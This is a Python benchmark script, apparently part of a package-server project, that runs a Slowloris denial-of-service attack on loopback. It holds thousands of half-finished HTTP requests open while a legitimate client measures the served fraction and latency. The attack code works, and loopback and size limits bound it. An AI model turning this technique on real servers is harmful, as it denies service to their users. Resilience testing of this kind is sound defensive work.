"""Slowloris on loopback: N connections that never finish their headers, and meanwhile one
legitimate client measuring what it still gets.

    .venv/bin/python -m bench.slowloris http://127.0.0.1:8000/-/health
    .venv/bin/python -m bench.slowloris URL --connections 1500 --duration 30 --rate 10

Start the target first (`mypypi2 serve`, any server and settings). Each attacking
connection sends a request line and a few headers, then one more header line every
`--drip` seconds and never the blank line that ends them; when the server drops it, it is
opened again, so the attack holds `--connections` all the time. The legitimate client opens
a new connection for each request (a new pip, a CI job starting), `--rate` requests a
second whatever the earlier ones are doing, each given `--timeout` seconds. The report
gives served / total and the latency of the served ones.

Bounded: at most 5,000 connections for at most 120 s, and only to a loopback address.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import resource
import statistics
import sys
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

MAX_CONNECTIONS = 5000
MAX_DURATION = 120.0
# Attacking connections being opened at once (a connect can wait for a full backlog).
_OPENING = 200


@dataclass
class Attack:
    target: int
    open: int = 0
    peak: int = 0
    opened: int = 0  # every successful connect, first ones and re-opened ones
    dropped: int = 0  # closed by the server
    refused: int = 0  # connect failed or timed out
    # Set once every connection was opened at least once.
    built: asyncio.Event = field(default_factory=asyncio.Event)
    running: bool = True


@dataclass
class Legit:
    latencies: list[float] = field(default_factory=list)
    failures: dict[str, int] = field(default_factory=dict)
    total: int = 0

    def fail(self, reason: str) -> None:
        self.failures[reason] = self.failures.get(reason, 0) + 1


def _raise_open_file_limit(needed: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = needed if hard == resource.RLIM_INFINITY else min(needed, hard)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
    if wanted < needed:
        sys.exit(f"slowloris: needs {needed} open files, the hard limit is {hard}")


async def _attacker(
    host: str, port: int, path: str, drip: float, attack: Attack, opening: asyncio.Semaphore
) -> None:
    head = f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: slowloris\r\n".encode()
    # Not only cancelled at the end: Python 3.11's wait_for can swallow a cancellation.
    while attack.running:
        try:
            async with opening, asyncio.timeout(10):
                reader, writer = await asyncio.open_connection(host, port)
        except (OSError, TimeoutError):
            attack.refused += 1
            await asyncio.sleep(0.5)
            continue
        attack.opened += 1
        if attack.opened >= attack.target:
            attack.built.set()
        attack.open += 1
        attack.peak = max(attack.peak, attack.open)
        try:
            writer.write(head)
            await writer.drain()
            while True:
                try:
                    async with asyncio.timeout(drip):
                        await reader.read(1024)
                    break  # the server answered (408, 400) or closed the connection
                except TimeoutError:
                    writer.write(b"X-Drip: 1\r\n")
                    await writer.drain()
        except OSError:
            pass  # reset by the server: dropped all the same
        finally:
            attack.open -= 1
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()
        attack.dropped += 1  # not reached when the run ends (cancelled)


async def _request(host: str, port: int, path: str, limit: float, legit: Legit) -> None:
    legit.total += 1
    started = time.perf_counter()
    request = f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n"
    writer = None
    try:
        async with asyncio.timeout(limit):
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(request.encode())
            await writer.drain()
            status_line = await reader.readline()
            await reader.read()  # to the end: Connection: close
    except TimeoutError:
        legit.fail("timeout")
        return
    except OSError as exc:
        legit.fail(type(exc).__name__)
        return
    finally:
        if writer is not None:
            writer.close()
    parts = status_line.split()
    if len(parts) < 2 or not parts[1].startswith((b"2", b"3")):
        legit.fail(f"status {parts[1].decode() if len(parts) > 1 else '?'}")
        return
    legit.latencies.append(time.perf_counter() - started)


async def _run(args: argparse.Namespace) -> tuple[Attack, Legit]:
    parts = urlsplit(args.url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    path = parts.path or "/"
    attack, legit = Attack(args.connections), Legit()
    opening = asyncio.Semaphore(_OPENING)
    attackers = [
        asyncio.create_task(_attacker(host, port, path, args.drip, attack, opening))
        for _ in range(args.connections)
    ]
    try:
        # Let the attack build up (bounded: a server may never accept them all).
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(attack.built.wait(), args.ramp)
        print(f"attack: {attack.open} connections open, measuring for {args.duration:g} s")
        requests: list[asyncio.Task[None]] = []
        start = time.monotonic()
        for index in range(int(args.duration * args.rate)):
            await asyncio.sleep(max(0.0, start + index / args.rate - time.monotonic()))
            requests.append(asyncio.create_task(_request(host, port, path, args.timeout, legit)))
        await asyncio.gather(*requests)
    finally:
        attack.running = False
        for task in attackers:
            task.cancel()
        await asyncio.gather(*attackers, return_exceptions=True)
    return attack, legit


def _ms(seconds: float) -> str:
    return f"{seconds * 1000:.1f} ms"


def _report(attack: Attack, legit: Legit) -> str:
    served = len(legit.latencies)
    lines = [
        f"attack: {attack.target} connections wanted, peak {attack.peak} open, "
        f"{attack.opened} opened, {attack.dropped} dropped by the server, "
        f"{attack.refused} connects failed",
        f"legit: {served}/{legit.total} served"
        + (f", failed: {legit.failures}" if legit.failures else ""),
    ]
    if served:
        ordered = sorted(legit.latencies)
        p99 = ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
        lines.append(
            f"latency of served: p50 {_ms(statistics.median(ordered))}, p99 {_ms(p99)}, "
            f"max {_ms(ordered[-1])}"
        )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="bench.slowloris", description=__doc__.split("\n")[0])
    parser.add_argument("url", help="what the legitimate client asks for, on loopback")
    parser.add_argument("--connections", type=int, default=1500, help="attacking connections")
    parser.add_argument("--duration", type=float, default=30.0, help="seconds measured")
    parser.add_argument("--rate", type=float, default=10.0, help="legit requests per second")
    parser.add_argument("--timeout", type=float, default=10.0, help="seconds per legit request")
    parser.add_argument("--drip", type=float, default=5.0, help="seconds between header lines")
    parser.add_argument("--ramp", type=float, default=15.0, help="most seconds to build up")
    args = parser.parse_args(argv)
    host = urlsplit(args.url).hostname or ""
    try:
        loopback = ipaddress.ip_address(host).is_loopback
    except ValueError:
        loopback = host == "localhost"
    if not loopback:
        parser.error("the target must be on loopback")
    if not 0 < args.connections <= MAX_CONNECTIONS:
        parser.error(f"--connections must be between 1 and {MAX_CONNECTIONS}")
    if not 0 < args.duration <= MAX_DURATION or args.ramp > MAX_DURATION:
        parser.error(f"--duration and --ramp must be at most {MAX_DURATION:g} s")
    if args.rate <= 0 or args.timeout <= 0 or args.drip <= 0:
        parser.error("--rate, --timeout and --drip must be > 0")
    _raise_open_file_limit(args.connections + int(args.rate * args.timeout) + 256)
    attack, legit = asyncio.run(_run(args))
    print(_report(attack, legit))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
